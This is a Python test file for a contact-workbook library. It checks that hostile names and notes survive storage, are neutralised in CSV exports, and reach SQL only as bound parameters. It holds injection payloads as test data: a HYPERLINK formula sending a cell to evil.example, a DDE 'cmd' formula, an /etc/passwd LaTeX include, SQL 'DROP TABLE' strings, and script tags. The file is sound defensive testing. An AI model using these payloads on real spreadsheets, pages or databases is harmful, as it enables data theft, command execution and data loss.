"""Hostile names and notes (HTML, Markdown, LaTeX, spreadsheet formulas, SQL) are stored
intact, neutralised in CSV exports, and never reach SQL except as bound parameters."""

from __future__ import annotations

import ast
import csv
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import coachkit
from coachkit import create_workbook, firm_key, open_workbook
from coachkit.export import export_csv

pytestmark = pytest.mark.reliability

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "|calc",
    "%0A",
    "'=already quoted",
    "'",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "**bold** [link](javascript:alert(1)) | table | ` code`",
    "# heading\n---\n> quote",
    r"\input{/etc/passwd} $\frac{1}{0}$ \\ & % # _ ^ ~",
    "Robert'); DROP TABLE contacts;--",
    "x' OR '1'='1",
    'He said "hi", then left',
    "first line\nsecond line\r\nthird\rfourth",
    "naïve café — 東京 🚀",
    "a\x00b",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")

hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.builds(str.__add__, st.sampled_from((*FORMULA_START, "'")), st.text(max_size=20)),
)


def _undo_neutralisation(value: str) -> str:
    """Undo export's apostrophe: every exported text cell starting with ' had one added."""
    return value[1:] if value.startswith("'") else value


def _as_text(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame as the strings a CSV holds ('' for a missing value)."""
    out = frame.copy()
    for column in out.columns:
        if pd.api.types.is_datetime64_any_dtype(out[column]):
            out[column] = out[column].dt.strftime("%Y-%m-%d")
        out[column] = [
            "" if value is None or value is pd.NA or (isinstance(value, float) and pd.isna(value))
            else str(value)
            for value in out[column]
        ]  # fmt: skip
    return out.astype(object)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    names=st.lists(hostile_text.filter(lambda t: t.strip()), min_size=1, max_size=4),
    notes=st.lists(hostile_text, min_size=1, max_size=4),
    firm=hostile_text,
)
def test_export_neutralises_formulas_and_round_trips(names, notes, firm, figures) -> None:
    figures.add("injection: hostile workbooks exported", 1)
    with tempfile.TemporaryDirectory() as tmp:
        with create_workbook(Path(tmp) / "wb", name=names[0][:200]) as wb:
            for i, name in enumerate(names):
                cid = wb.add_contact(name, firm=firm, notes=notes[i % len(notes)], position=firm)
                wb.log_activity(cid, "outreach", "2026-11-22", notes=notes[-1])
            if firm_key(firm):
                wb.tag_firm(firm, industry=notes[0] or None)
            written = export_csv(wb, Path(tmp) / "out")
            expected = {
                "contacts": wb.contacts(),
                "activities": wb.activities(),
                "firms": wb.firms(),
            }
        for path in written:
            with path.open(encoding="utf-8-sig", newline="") as handle:
                rows = list(csv.reader(handle))
            for row in rows[1:]:
                for cell in row:
                    assert not cell.startswith(FORMULA_START), f"{path.name}: {cell!r} would run"
        for table, frame in expected.items():
            back = pd.read_csv(
                Path(tmp) / "out" / f"{table}.csv",
                dtype=str,
                keep_default_na=False,
                encoding="utf-8-sig",
            ).map(_undo_neutralisation)
            pd.testing.assert_frame_equal(back.astype(object), _as_text(frame))


def test_sql_text_in_every_field_round_trips_and_drops_nothing(workbook) -> None:
    evil = "Robert'); DROP TABLE contacts;--"
    workbook.update_profile(name=evil)
    workbook.set_goals(
        industries=[evil], roles=["x' OR '1'='1"], locations=['"; DELETE FROM goals']
    )
    workbook.set_target(evil[:60], 3, label=evil)
    firm_id = workbook.tag_firm(evil, industry=evil, location=evil, notes=evil)
    cid = workbook.add_contact(evil, firm=evil, notes=evil, email=evil, tags=evil)
    workbook.update_contact(cid, position=evil, location=evil)
    workbook.log_activity(cid, "outreach", "2026-11-22", notes=evil)

    assert workbook.profile.name == evil
    assert workbook.goals.industries == (evil,)
    assert workbook.goals.roles == ("x' OR '1'='1",)
    contact = workbook.get_contact(cid)
    assert [contact[k] for k in ("name", "firm", "notes", "tags", "position", "location")] == [
        evil
    ] * 6
    assert workbook.firms().set_index("id").loc[firm_id, "industry"] == evil
    assert workbook.activities()["notes"].tolist() == [evil]
    tables = set(workbook.query("SELECT name FROM sqlite_master WHERE type = 'table'")["name"])
    assert {"contacts", "activities", "goals", "firms", "targets", "profile"} <= tables


# -- SQL is only ever parameterised --------------------------------------------------------------
# Every expression formatted into SQL text in coachkit/, reviewed: each is a fixed column name,
# a list of placeholders, or an integer. A new one fails this test until it is reviewed (and
# values must be bound as parameters instead).
REVIEWED_SQL_FRAGMENTS = {
    ("workbook.py", "', '.join(_PROFILE_COLUMNS)"),  # profile: fixed column names
    ("workbook.py", "assignments"),  # "col = :col" / "col = COALESCE(...)" for fixed columns
    ("workbook.py", "columns"),  # fixed contact column names
    ("workbook.py", "marks"),  # ":col" placeholders
    ("workbook.py", "column"),  # fixed firm column names
    ("workbook.py", "c"),  # a fixed contact column name (bulk update)
    ("workbook.py", "empty"),  # "col IS NULL OR col = ''" for fixed columns
    ("workbook.py", "', '.join(columns)"),  # fixed contact column names (bulk insert)
    ("workbook.py", "', '.join('?' * len(columns))"),  # placeholders only
    ("workbook.py", "', '.join('?' * len(ids))"),  # placeholders only
    ("workbook.py", "sql"),  # SQL text + a fixed clause (" ORDER BY ...")
    ("_schema.py", "number + 1"),  # PRAGMA user_version = <int, formatted with :d>
}
# Upper-case SQL words, as coachkit writes SQL; prose in messages is not matched.
SQL_PATTERN = re.compile(
    r"\b(SELECT|INSERT INTO|UPDATE|DELETE FROM|PRAGMA|CREATE|DROP|ALTER|WHERE|VALUES|"
    r"COALESCE|NULLIF|IS NULL|ORDER BY|GROUP BY)\b"
)


def _formatted_sql(tree: ast.AST):
    """Yield (line, fragment) for every value formatted into a string that looks like SQL."""
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
            if SQL_PATTERN.search(text):
                for value in node.values:
                    if isinstance(value, ast.FormattedValue):
                        yield node.lineno, ast.unparse(value.value)
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
            for side in (node.left, node.right):
                if isinstance(side, ast.Constant) and isinstance(side.value, str):
                    if SQL_PATTERN.search(side.value):
                        other = node.right if side is node.left else node.left
                        if not isinstance(other, ast.Constant | ast.JoinedStr):
                            yield node.lineno, ast.unparse(other)
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "format"
            and isinstance(node.func.value, ast.Constant)
            and isinstance(node.func.value.value, str)
            and SQL_PATTERN.search(node.func.value.value)
        ):
            yield node.lineno, ast.unparse(node)


def test_sql_is_only_built_from_reviewed_fixed_fragments() -> None:
    package = Path(coachkit.__file__).parent
    unreviewed = []
    for source in sorted(package.glob("*.py")):
        tree = ast.parse(source.read_text(encoding="utf-8"))
        for line, fragment in _formatted_sql(tree):
            if (source.name, fragment) not in REVIEWED_SQL_FRAGMENTS:
                unreviewed.append(f"{source.name}:{line}: {fragment}")
    assert not unreviewed, (
        "SQL text built from values (bind them as ? parameters instead; if this is a fixed "
        "name, review it and add it to REVIEWED_SQL_FRAGMENTS):\n" + "\n".join(unreviewed)
    )


def test_ruff_s608_finds_no_unmarked_sql_built_from_strings() -> None:
    package = Path(coachkit.__file__).parent
    done = subprocess.run(
        [sys.executable, "-m", "ruff", "check", "--select", "S608", "--no-cache", str(package)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_sql_check_catches_a_value_formatted_into_sql() -> None:
    bad = ast.parse(
        "conn.execute(f\"SELECT * FROM contacts WHERE name = '{name}'\")\n"
        "conn.execute(\"DELETE FROM goals WHERE kind = '%s'\" % kind)\n"
        'conn.execute("UPDATE t SET x = {}".format(value))\n'
    )
    assert [fragment for _, fragment in _formatted_sql(bad)] == [
        "name",
        "kind",
        "'UPDATE t SET x = {}'.format(value)",
    ]


def test_a_reopened_workbook_still_holds_hostile_text(tmp_path: Path) -> None:
    with create_workbook(tmp_path / "wb") as wb:
        ids = wb.add_contacts({"name": text} for text in HOSTILE)
    with open_workbook(tmp_path / "wb") as wb:
        assert wb.contacts().set_index("id").loc[ids, "name"].tolist() == list(HOSTILE)


def test_hostile_text_from_an_import_is_neutralised_in_the_export(tmp_path: Path) -> None:
    """A LinkedIn export is text from strangers: what it carries must not run on export."""
    from coachkit.importers import import_contacts

    rows = [
        ('=HYPERLINK("http://evil.example")', "x", "=1+1", "@SUM(A1)"),
        ("<script>alert(1)</script>", "Doe", "+33 1 23", "-2+3"),
        ("Robert'); DROP TABLE contacts;--", "Tables", "|calc", "%0A"),
    ]
    lines = ["First Name,Last Name,URL,Email Address,Company,Position,Connected On"]
    for i, (first, last, firm, position) in enumerate(rows):
        cells = [
            first,
            last,
            f"https://www.linkedin.com/in/h{i}",
            "",
            firm,
            position,
            "15 Mar 2024",
        ]
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    source = tmp_path / "Connections.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with create_workbook(tmp_path / "wb") as wb:
        import_contacts(wb, source)
        stored = wb.contacts()
        export_csv(wb, tmp_path / "out")
    assert sorted(stored["first_name"]) == sorted(r[0] for r in rows)
    with (tmp_path / "out" / "contacts.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in list(csv.reader(handle))[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert '\'=HYPERLINK("http://evil.example")' in cells
    assert "'@SUM(A1)" in cells
